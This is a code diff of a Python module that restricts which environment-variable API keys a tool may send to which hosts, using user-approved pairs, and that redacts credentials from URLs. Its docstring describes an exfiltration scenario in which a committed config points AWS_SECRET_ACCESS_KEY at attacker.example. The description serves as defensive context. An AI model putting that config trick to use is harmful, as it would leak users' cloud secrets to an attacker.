@@ -1,84 +1,71 @@
-"""Where API keys may come from and where they may go; URLs printed without credentials.
+"""Which API key may go to which host: the user's choice, never a repository file's.
 
 A config file is data from the repository: whoever can commit ``baseline.yaml`` chooses
-``llm.api_key_env`` and ``llm.base_url``. Without a check, ``api_key_env: AWS_SECRET_ACCESS_KEY``
-(or ``HOME``, ``GITHUB_TOKEN``...) plus ``base_url: https://attacker.example/v1`` would send
-that variable off the machine as a bearer token. So:
+``llm.api_key_env`` and ``llm.base_url``. Without a check, ``api_key_env:
+AWS_SECRET_ACCESS_KEY`` plus ``base_url: https://attacker.example/v1`` would send that
+variable off the machine as a bearer token after a ``git pull``. So a key is sent only
+along a pair (variable, host) the user approved:
 
-- ``check_key_env``: only key-like variable names (``*_API_KEY``, ``*_TOKEN``, ``*_KEY``) are
-  read, unless the user lists the name in ``WIKIRAG_ALLOW_KEY_ENV`` (comma-separated); a
-  config naming any other variable that is set is refused with a ConfigError.
-- ``key_destination_warning``: a config that sends a key to a host other than the one in
-  ``OPENAI_BASE_URL`` (the user's own setting) gets a warning naming both hosts.
-- ``new_host_warning``: the hosts each KB's configs have sent the key to are remembered in
-  the user's config dir (``key_hosts.json``); a host not seen before for that KB is warned
-  about once (a pulled commit that repoints ``base_url`` is noticed even without
-  ``OPENAI_BASE_URL``). The file is outside the repository on purpose: a list kept under
-  ``experiments/<kb>/`` could be committed with the new host already in it.
-- ``redact_url`` / ``redact_urls``: ``user:password@`` in a URL is never printed.
+- by default: the section's own variable (``OPENAI_API_KEY`` for the LLM and embeddings,
+  ``RERANK_API_KEY`` for the reranker) to a loopback host (a local server, the tests'
+  127.0.0.1 servers) or to the host of the user's own ``OPENAI_BASE_URL`` (environment or
+  ``.env``: the user's files, not the repository's);
+- ``WIKIRAG_APPROVED_KEYS=VAR@host,host2`` in the environment (a bare host means the
+  section's own variable);
+- the user's approvals file ``keys.yaml`` in the user's config dir (``$WIKIRAG_CONFIG_DIR``,
+  else ``$XDG_CONFIG_HOME/wikirag``, else ``~/.config/wikirag``), written by
+  ``wikirag keys allow --key-env VAR --host HOST``. It lives outside the repository on
+  purpose: a list under ``experiments/<kb>/`` could be committed with the new host in it.
+
+Any other pair is refused with a ConfigError before the key is read or a request is made,
+saying the command that approves it. A variable that is not set sends nothing and needs no
+approval. ``redact_url`` / ``redact_urls``: ``user:password@`` in a URL is never printed.
 """
 
 from __future__ import annotations
 
-import json
+import ipaddress
 import os
 import re
 from collections.abc import Mapping
 from pathlib import Path
+from typing import Any
 from urllib.parse import urlsplit, urlunsplit
 
-from engine.atomic import atomic_write_text
-from engine.errors import ConfigError
+import yaml
 
-ALLOW_KEY_ENV = "WIKIRAG_ALLOW_KEY_ENV"
+from engine.atomic import atomic_update_text
+from engine.errors import ConfigError
+from engine.yaml_safe import load_mapping, short
+
+DEFAULT_KEY_ENV = "OPENAI_API_KEY"  # llm and embedding sections
+DEFAULT_RERANK_KEY_ENV = "RERANK_API_KEY"
+APPROVED_ENV = "WIKIRAG_APPROVED_KEYS"
 ENV_BASE_URL = "OPENAI_BASE_URL"
 CONFIG_DIR_ENV = "WIKIRAG_CONFIG_DIR"  # where the user's own state lives (tests point it away)
-KEY_HOSTS_FILE = "key_hosts.json"
-_KEY_LIKE = re.compile(r"^[A-Za-z][A-Za-z0-9_]*(?:_API_KEY|_TOKEN|_KEY)$", re.IGNORECASE)
+APPROVALS_FILE = "keys.yaml"
+ALLOW_COMMAND = "wikirag keys allow"
+_LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost"})
+_VAR = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
 # scheme://user[:password]@host — the credentials part of any URL inside free text
 _URL_CREDENTIALS = re.compile(r"(?P<scheme>\b[a-zA-Z][a-zA-Z0-9+.-]*://)[^/@\s'\"]+@")
 
 
-def is_key_like(name: str) -> bool:
-    return bool(_KEY_LIKE.match(name))
-
-
-def check_key_env(name: str, setting: str, env: Mapping[str, str] | None = None) -> None:
-    """Raise ConfigError unless ``name`` may be read as an API key (see the module docstring)."""
-    environ = os.environ if env is None else env
-    if not name or is_key_like(name) or not environ.get(name):
-        return  # an unset variable sends nothing
-    confirmed = {n.strip() for n in environ.get(ALLOW_KEY_ENV, "").split(",") if n.strip()}
-    if name in confirmed:
-        return
-    raise ConfigError(
-        f"{setting} = {name!r} does not look like an API key variable (*_API_KEY, *_TOKEN, "
-        f"*_KEY): a config could use it to send any environment variable to its endpoint. "
-        f"If {name} really holds the key, confirm with {ALLOW_KEY_ENV}={name}"
-    )
-
-
-def _host(url: str) -> str:
+def host_of(url: str) -> str:
+    """The lower-case host name of ``url`` ("" when it has none or cannot be parsed)."""
     try:
         return (urlsplit(url.strip()).hostname or "").lower()
     except ValueError:
         return ""
 
 
-def key_destination_warning(
-    setting: str, base_url: str, env: Mapping[str, str] | None = None
-) -> str | None:
-    """A warning when a config's ``base_url`` sends a key to a host other than the user's own
-    ``OPENAI_BASE_URL``; None when they agree or there is nothing to compare with."""
-    environ = os.environ if env is None else env
-    mine = _host(environ.get(ENV_BASE_URL, "") or "")
-    theirs = _host(base_url)
-    if not mine or not theirs or mine == theirs:
-        return None
-    return (
-        f"{setting} sends the API key to {theirs}, not to {mine} (your {ENV_BASE_URL}); "
-        f"check that the config (e.g. a committed baseline.yaml) is one you trust"
-    )
+def is_loopback(host: str) -> bool:
+    if host in _LOOPBACK_NAMES:
+        return True
+    try:
+        return ipaddress.ip_address(host).is_loopback
+    except ValueError:
+        return False
 
 
 def user_config_dir(env: Mapping[str, str] | None = None) -> Path:
@@ -90,47 +77,120 @@ def user_config_dir(env: Mapping[str, str] | None = None) -> Path:
     return Path(base) / "wikirag"
 
 
-def _seen_hosts(path: Path) -> dict[str, list[str]]:
-    try:
-        data = json.loads(path.read_text(encoding="utf-8"))
-    except (OSError, ValueError):
-        return {}  # missing or damaged: start again (worst case, one warning too many)
-    if not isinstance(data, dict):
-        return {}
-    return {
-        str(k): [str(h) for h in v] for k, v in data.items() if isinstance(v, list)
-    }  # fmt: skip
+def approvals_path(env: Mapping[str, str] | None = None) -> Path:
+    return user_config_dir(env) / APPROVALS_FILE
 
 
-def new_host_warning(
-    setting: str, base_url: str, kb: str | Path, env: Mapping[str, str] | None = None
-) -> str | None:
-    """A warning the first time a config sends the key for knowledge base ``kb`` to the host
-    of ``base_url``; None for a host seen before for that KB, or the user's own
-    ``OPENAI_BASE_URL`` host. Records the host (atomically) either way."""
+def _check_pair(key_env: str, host: str, where: str) -> tuple[str, str]:
+    if not _VAR.match(key_env):
+        raise ConfigError(f"{where}: {short(key_env)} is not an environment variable name")
+    if not host or "/" in host or "@" in host or not host.strip():
+        raise ConfigError(f"{where}: {short(host)} is not a host name (e.g. api.example.com)")
+    return key_env, host.strip().lower()
+
+
+def read_approvals(env: Mapping[str, str] | None = None) -> list[tuple[str, str]]:
+    """The (variable, host) pairs in the user's approvals file; [] when there is none.
+
+    A damaged file is a ConfigError naming it: silently ignoring it would refuse keys the
+    user approved, silently guessing could approve one they did not.
+    """
+    path = approvals_path(env)
+    if not path.is_file():
+        return []
+    data = load_mapping(path.read_text(encoding="utf-8"), str(path))
+    items = data.get("approved", [])
+    if not isinstance(items, list):
+        raise ConfigError(f"{path}: 'approved' must be a list of {{key_env, host}} entries")
+    pairs = []
+    for i, item in enumerate(items):
+        if not isinstance(item, dict) or not all(
+            isinstance(item.get(k), str) for k in ("key_env", "host")
+        ):
+            raise ConfigError(f"{path}: approved[{i}] must have string key_env and host")
+        pairs.append(_check_pair(item["key_env"], item["host"], f"{path}: approved[{i}]"))
+    return pairs
+
+
+def _env_approvals(environ: Mapping[str, str], default_key_env: str) -> set[tuple[str, str]]:
+    pairs = set()
+    for entry in environ.get(APPROVED_ENV, "").split(","):
+        if entry.strip():
+            var, sep, host = entry.strip().rpartition("@")
+            pairs.add(_check_pair(var if sep else default_key_env, host, APPROVED_ENV))
+    return pairs
+
+
+def key_approved(
+    key_env: str,
+    url: str,
+    *,
+    default_key_env: str,
+    user_base_url: str = "",
+    env: Mapping[str, str] | None = None,
+) -> bool:
+    """Whether the user lets the value of ``key_env`` go to the host of ``url``."""
     environ = os.environ if env is None else env
-    host = _host(base_url)
+    host = host_of(url)
     if not host:
-        return None
-    path = user_config_dir(environ) / KEY_HOSTS_FILE
-    seen = _seen_hosts(path)
-    scope = str(Path(kb).resolve())
-    hosts = seen.get(scope, [])
-    if host in hosts:
-        return None
-    seen[scope] = sorted({*hosts, host})
-    try:
-        path.parent.mkdir(parents=True, exist_ok=True)
-        atomic_write_text(path, json.dumps(seen, ensure_ascii=False, indent=1, sort_keys=True))
-    except OSError:
-        pass  # a read-only home: warn again next time rather than fail the command
-    if host == _host(environ.get(ENV_BASE_URL, "") or ""):
-        return None
-    return (
-        f"{setting} sends the API key to {host}, a host not used before with the knowledge "
-        f"base {Path(kb).name}; check that the config (e.g. a committed baseline.yaml) is one "
-        f"you trust (warned once; hosts seen are listed in {path})"
+        return False
+    if key_env == default_key_env and (is_loopback(host) or host == host_of(user_base_url)):
+        return True
+    pair = (key_env, host)
+    return pair in _env_approvals(environ, default_key_env) or pair in read_approvals(environ)
+
+
+def check_key_destination(
+    section: str,
+    key_env: str,
+    url: str,
+    *,
+    default_key_env: str,
+    user_base_url: str = "",
+    env: Mapping[str, str] | None = None,
+) -> None:
+    """Raise ConfigError (one line, with the approving command) unless ``key_approved``.
+
+    ``section``: the config section named in the message ("llm", "embedding", "rerank").
+    Call it before reading the key, and only when ``key_env`` is set (else nothing is sent).
+    """
+    if key_approved(
+        key_env, url, default_key_env=default_key_env, user_base_url=user_base_url, env=env
+    ):
+        return
+    host = host_of(url) or "?"
+    raise ConfigError(
+        f"{section}.api_key_env = {key_env!r} would send that variable to {host} "
+        f"({section}.base_url {redact_url(url)!r}), which you have not approved; nothing was "
+        f"sent. If you trust this config, approve it with `{ALLOW_COMMAND} --key-env {key_env} "
+        f"--host {host}` (or {APPROVED_ENV}={key_env}@{host})"
     )
+
+
+def allow(key_env: str, host: str, env: Mapping[str, str] | None = None) -> Path:
+    """Add (``key_env``, ``host``) to the user's approvals file (atomically, under a lock);
+    returns the file's path. Approving a pair twice keeps one entry."""
+    pair = _check_pair(key_env, host, "approval")
+    return _rewrite(lambda pairs: pairs if pair in pairs else [*pairs, pair], env)
+
+
+def revoke(key_env: str, host: str, env: Mapping[str, str] | None = None) -> Path:
+    pair = _check_pair(key_env, host, "approval")
+    return _rewrite(lambda pairs: [p for p in pairs if p != pair], env)
+
+
+def _rewrite(change: Any, env: Mapping[str, str] | None) -> Path:
+    path = approvals_path(env)
+
+    def update(_old: str) -> str:
+        pairs = change(read_approvals(env))  # re-read under the lock: another writer's wins
+        body = yaml.safe_dump(
+            {"approved": [{"key_env": k, "host": h} for k, h in pairs]}, sort_keys=False
+        )
+        return f"# API keys wikirag may send, and where to ({ALLOW_COMMAND} writes this)\n{body}"
+
+    atomic_update_text(path, update)
+    return path
 
 
 def redact_url(url: str) -> str:
